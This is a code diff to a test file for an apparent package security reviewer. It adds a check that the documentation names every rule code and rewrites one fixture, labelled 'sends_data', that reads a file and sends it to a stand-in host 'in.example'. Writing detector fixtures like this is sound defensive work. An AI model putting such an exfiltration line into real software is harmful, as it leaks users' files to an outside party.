@@ -1,8 +1,9 @@
-import { mkdir, readdir, writeFile } from "node:fs/promises";
+import { mkdir, readdir, readFile, writeFile } from "node:fs/promises";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
 import { defaultPackageLimits } from "../../../src/packages/package-limits.ts";
 import { reviewInstalled } from "../../../src/packages/review-units.ts";
+import { meanings } from "../../../src/packages/rules/meanings.ts";
 import { testSkill } from "../../support/skills/test-skill.ts";
 import { packagePlace, signal, succeeded } from "./package-place.ts";
 import { gravities, reviewOf } from "./review-of.ts";
@@ -173,7 +174,7 @@ const code: [expected: string, path: string, text: string][] = [
   [
     "warning sends_data",
     "a.mjs",
-    "const all = readFileSync(process.argv[2]);\nhttps.get({ host: 'in.example', path: `/${part}.gif` })",
+    `const all = readFileSync(process.argv[2]);\nhttps.get({ host: 'in.example', path: "/" + part })`,
   ],
   [
     "warning sends_what_it_finds",
@@ -269,6 +270,11 @@ describe("a review", () => {
   it.each(harmless)("a review is calm about %s: %s", async (path, text) => {
     const { findings } = await reviewOf({ [path]: text });
     expect(findings.filter(({ severity }) => severity !== "info")).toEqual([]);
+  });
+
+  it("the documentation lists every code of the rules", async () => {
+    const text = await readFile(join(import.meta.dirname, "../../../docs/security-details.md"), "utf8");
+    expect(Object.keys(meanings).filter((code) => !text.includes(`\`${code}\``))).toEqual([]);
   });
 
   it("a review says into which requests a key is put", async () => {
